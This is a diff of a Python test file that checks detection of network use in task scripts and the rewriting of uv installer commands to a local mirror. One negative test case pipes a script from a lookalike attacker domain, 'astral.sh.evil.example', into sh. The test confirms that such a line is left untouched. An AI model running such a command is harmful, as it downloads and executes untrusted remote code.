@@ -9,7 +9,7 @@ import pytest
 
 from outrider.errors import InvalidField
 from outrider.tasks.datasets import harbor_examples
-from outrider.tasks.harbor.network import network_uses
+from outrider.tasks.harbor.network import UV_AT, network_uses, with_uv_of_mirror
 from test_datasets import harbor_task
 
 NEED = {
@@ -35,7 +35,8 @@ DO_NOT = (
 
 @pytest.mark.parametrize(("line", "command"), NEED.items())
 def test_a_line_that_needs_a_network(line: str, command: str) -> None:
-    assert list(network_uses(f"#!/bin/bash\n{line}\n")) == [(2, command)]
+    [use] = network_uses(f"#!/bin/bash\n{line}\n")
+    assert (use.line, use.command) == (2, command)
 
 
 @pytest.mark.parametrize("line", DO_NOT)
@@ -66,3 +67,52 @@ def test_a_name_that_harbor_refuses_is_told_with_its_line_and_remedy(tmp_path: P
     with pytest.raises(InvalidField, match=r"task\.toml, line 3, has task\.name: 'router' is not") as refused:
         harbor_examples(tmp_path, offline=True)
     assert '"my-org/my-task"' in str(refused.value.hint)
+
+
+INSTALLERS = {
+    "curl -LsSf https://astral.sh/uv/0.9.7/install.sh | sh": f"sh {UV_AT} 0.9.7",
+    "curl -LsSf https://astral.sh/uv/install.sh | sh": f"sh {UV_AT}",
+    "wget -qO- https://astral.sh/uv/0.7.13/install.sh | bash && x": f"sh {UV_AT} 0.7.13 && x",
+    "curl -L https://astral.sh/uv/install.sh | env UV_INSTALL_DIR=/u sh": f"env UV_INSTALL_DIR=/u sh {UV_AT}",
+    "curl -LsSf https://github.com/astral-sh/uv/releases/download/0.8.0/uv-installer.sh | sh": f"sh {UV_AT} 0.8.0",
+}
+OTHERS = ("curl https://astral.sh.evil.example/uv/install.sh | sh", "curl https://astral.sh/uv/install.sh -o x; sh x")
+
+
+@pytest.mark.parametrize(("line", "ours"), INSTALLERS.items())
+def test_an_installer_of_uv_is_replaced(line: str, ours: str) -> None:
+    assert with_uv_of_mirror(f"set -e\n{line}\nuvx pytest\n") == f"set -e\n{ours}\nuvx pytest\n"
+
+
+@pytest.mark.parametrize("line", OTHERS)
+def test_other_lines_stay(line: str) -> None:
+    assert with_uv_of_mirror(line) == line
+
+
+@pytest.mark.parametrize(
+    ("network", "installed", "lacks"),
+    [
+        (["mirror:pip"], True, ["mirror:apt", "files.example:443"]),
+        (["mirror:pip", "mirror:apt", "*.example:443"], True, []),
+        (["mirror:apt", "files.example"], False, ["astral.sh:443", "mirror:pip"]),
+        (["mirror:pip", "mirror:apt", "files.example", "astral.sh"], False, []),
+        (["*"], False, []),
+    ],
+)
+def test_uv_comes_from_the_mirror_and_what_a_network_lacks_is_told(
+    tmp_path: Path, network: list[str], installed: bool, lacks: list[str]
+) -> None:
+    script = (
+        "apt-get update\ncurl -LsSf https://astral.sh/uv/0.9.7/install.sh | sh\nuvx pytest\n"
+        "curl -o /data https://files.example/data\n"
+    )
+    harbor_task(tmp_path / "a", "[environment]\ncpus = 1\n", script)
+    [example] = harbor_examples(tmp_path, network=network)
+    tests = {file["to"]: file["write"] for file in example.task["evaluator"]["options"]["tests"]}
+    assert (UV_AT in tests) == installed
+    assert ("https://astral.sh" in tests["/tests/test.sh"]) == (not installed)
+    if not lacks:
+        assert example.notes == ()
+        return
+    [note] = example.notes
+    assert f"the task's network lacks {' '.join(f'--network {name}' for name in lacks)}, so" in note
